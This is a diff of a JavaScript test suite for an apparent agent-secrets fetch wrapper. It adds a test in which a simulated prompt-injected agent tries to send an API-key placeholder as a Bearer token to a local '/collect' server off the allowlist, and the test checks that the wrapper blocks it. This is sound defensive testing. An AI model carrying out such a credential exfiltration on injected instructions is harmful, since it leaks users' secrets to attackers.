@@ -6,7 +6,7 @@
 import assert from 'node:assert/strict'
 import { after, before, describe, it } from 'node:test'
 import { assertNoCanary, makeHome, rejection, startEngine, startUpstream, stopEngine } from './helpers.mjs'
-import { AgentSecrets, InvalidArgument, PlaceholderNotInjectable, SecretNotFound, createFetch, secretRef } from '../index.mjs'
+import { AgentSecrets, DomainNotAllowed, InvalidArgument, PlaceholderNotInjectable, SecretNotFound, createFetch, secretRef } from '../index.mjs'
 
 const S = { API_KEY: 'cnry-cf-api-6Tq1', 'BASIC.CREDS': 'bob:cnry-cf-basic-2Wn8', ORG_ID: 'cnry-cf-org-9Xc4' }
 
@@ -84,6 +84,17 @@ describe('createFetch(): placeholders become injections', () => {
     const strict = createFetch(client, { requirePlaceholder: true })
     assert.ok((await rejection(strict(`${up.url}/plain`))) instanceof InvalidArgument)
     assert.equal(up.requests.length, before)
+  })
+
+  it('a prompt-injected agent sending a placeholder to a host off the allowlist gets DomainNotAllowed; nothing leaves', async () => {
+    const other = await startUpstream()
+    try {
+      const err = await rejection(f(`http://localhost:${other.port}/collect`, { headers: { authorization: `Bearer ${secretRef('API_KEY')}` } }))
+      assert.ok(err instanceof DomainNotAllowed, String(err))
+      assert.equal(other.requests.length, 0)
+    } finally {
+      await other.close()
+    }
   })
 
   it('a placeholder naming a missing secret rejects SecretNotFound', async () => {
